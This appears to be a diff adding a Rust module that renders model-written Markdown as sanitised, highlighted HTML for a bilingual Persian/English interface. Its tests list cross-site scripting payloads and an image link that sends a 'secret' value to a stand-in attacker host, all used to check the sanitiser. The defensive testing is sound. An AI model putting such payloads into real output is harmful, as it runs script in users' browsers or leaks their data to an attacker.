@@ -1,0 +1,155 @@
+//! Markdown → safe HTML, with highlighted code. The only maker of raw HTML: everything passes the sanitiser last.
+
+use ammonia::{Builder, UrlRelative};
+use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};
+use std::{collections::HashSet, sync::LazyLock};
+use syntect::{
+    html::{ClassStyle, ClassedHTMLGenerator},
+    parsing::SyntaxSet,
+    util::LinesWithEndings,
+};
+
+static SYNTAXES: LazyLock<SyntaxSet> = LazyLock::new(SyntaxSet::load_defaults_newlines);
+
+/// Code longer than this is shown without colours: highlighting is work that grows with it.
+const HIGHLIGHT_BYTES_MAX: usize = 64 * 1024;
+
+/// The classes of highlighted code start with this.
+const CLASSES: ClassStyle = ClassStyle::SpacedPrefixed { prefix: "hl-" };
+
+static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
+    let mut builder = Builder::default();
+    // Images of a model's choosing would tell their host who reads what.
+    builder
+        .rm_tags(["img", "map", "area"])
+        .add_tags(["input"])
+        .add_tag_attributes("input", ["type", "checked", "disabled"])
+        .add_tag_attributes("ol", ["start"])
+        .add_tag_attributes("pre", ["data-language"])
+        .add_generic_attributes(["dir"])
+        .url_schemes(HashSet::from(["http", "https", "mailto"]))
+        .url_relative(UrlRelative::Deny)
+        .link_rel(Some("noopener noreferrer nofollow"))
+        .set_tag_attribute_value("a", "target", "_blank")
+        .set_tag_attribute_value("input", "disabled", "")
+        .add_tag_attribute_values("input", "type", ["checkbox"])
+        .attribute_filter(|element, attribute, value| match (element, attribute) {
+            ("span" | "code", "class") => {
+                let ours = value.split_whitespace().all(|class| class.starts_with("hl-") || class.starts_with("language-"));
+                ours.then(|| value.into())
+            }
+            (_, "class") => None,
+            ("input", "type") if value != "checkbox" => None,
+            _ => Some(value.into()),
+        })
+        .add_tag_attributes("span", ["class"])
+        .add_tag_attributes("code", ["class"]);
+    builder
+});
+
+/// Renders text as a model writes it. Every block gets its own direction.
+pub fn render(text: &str) -> String {
+    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
+    let mut rendered = String::with_capacity(text.len() * 2);
+    html::push_html(&mut rendered, highlighted(Parser::new_ext(text, options)).into_iter());
+    with_directions(&SANITISER.clean(&rendered).to_string())
+}
+
+/// Replaces code blocks by their highlighted form, and raw HTML by its text.
+fn highlighted<'t>(parser: impl Iterator<Item = Event<'t>>) -> Vec<Event<'t>> {
+    let mut events = Vec::new();
+    let mut code: Option<(String, String)> = None;
+    for event in parser {
+        match event {
+            Event::Start(Tag::CodeBlock(kind)) => {
+                let language = match kind {
+                    CodeBlockKind::Fenced(info) => info.split([' ', ',']).next().unwrap_or("").to_owned(),
+                    CodeBlockKind::Indented => String::new(),
+                };
+                code = Some((language, String::new()));
+            }
+            Event::End(TagEnd::CodeBlock) => {
+                if let Some((language, text)) = code.take() {
+                    events.push(Event::Html(CowStr::from(code_block(&language, &text))));
+                }
+            }
+            Event::Text(text) if code.is_some() => {
+                if let Some((_, block)) = &mut code {
+                    block.push_str(&text);
+                }
+            }
+            Event::Html(raw) | Event::InlineHtml(raw) => events.push(Event::Text(raw)),
+            other => events.push(other),
+        }
+    }
+    events
+}
+
+fn code_block(language: &str, text: &str) -> String {
+    let body = highlight(language, text).unwrap_or_else(|| escape(text));
+    format!("<pre data-language=\"{}\" dir=\"ltr\"><code>{body}</code></pre>\n", escape(language))
+}
+
+fn highlight(language: &str, text: &str) -> Option<String> {
+    if text.len() > HIGHLIGHT_BYTES_MAX {
+        return None;
+    }
+    let syntax = SYNTAXES.find_syntax_by_token(language)?;
+    let mut generator = ClassedHTMLGenerator::new_with_class_style(syntax, &SYNTAXES, CLASSES);
+    for line in LinesWithEndings::from(text) {
+        generator.parse_html_for_line_which_includes_newline(line).ok()?;
+    }
+    Some(generator.finalize())
+}
+
+fn escape(text: &str) -> String {
+    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
+}
+
+/// Persian and English alternate within one answer: each block finds its own direction.
+fn with_directions(html: &str) -> String {
+    const BLOCKS: [&str; 9] = ["p", "li", "h1", "h2", "h3", "h4", "blockquote", "td", "th"];
+    let mut out = html.to_owned();
+    for block in BLOCKS {
+        out = out.replace(&format!("<{block}>"), &format!("<{block} dir=\"auto\">"));
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::render;
+
+    #[test]
+    fn code_is_highlighted_and_stays_left_to_right() {
+        let html = render("سلام\n\n```rust\nlet x = 1;\n```\n");
+        assert!(html.contains("<p dir=\"auto\">سلام</p>"), "{html}");
+        assert!(html.contains("<pre data-language=\"rust\" dir=\"ltr\"><code><span class=\"hl-"), "{html}");
+    }
+
+    #[test]
+    fn html_of_a_model_is_text() {
+        for attack in [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "[x](javascript:alert(1))",
+            "![x](https://evil.example/?q=secret)",
+            "<a href=\"data:text/html,x\" onclick=\"y\">z</a>",
+            "```\n</code></pre><script>alert(1)</script>\n```",
+            "```\"><script>\nx\n```",
+            "<svg/onload=alert(1)>",
+            "[x](//evil.example)",
+        ] {
+            let html = render(attack);
+            let live = ["<script", "<img", "<svg", "href=\"javascript", "href=\"data", "evil.example\"", "onclick=\""];
+            let escaped = html.replace("&lt;", "‹");
+            assert!(!live.iter().any(|tag| escaped.contains(tag)), "{attack} → {html}");
+        }
+    }
+
+    #[test]
+    fn links_open_elsewhere_and_tell_nothing() {
+        let html = render("[x](https://example.com/a)");
+        assert!(html.contains("rel=\"noopener noreferrer nofollow\"") && html.contains("target=\"_blank\""), "{html}");
+    }
+}
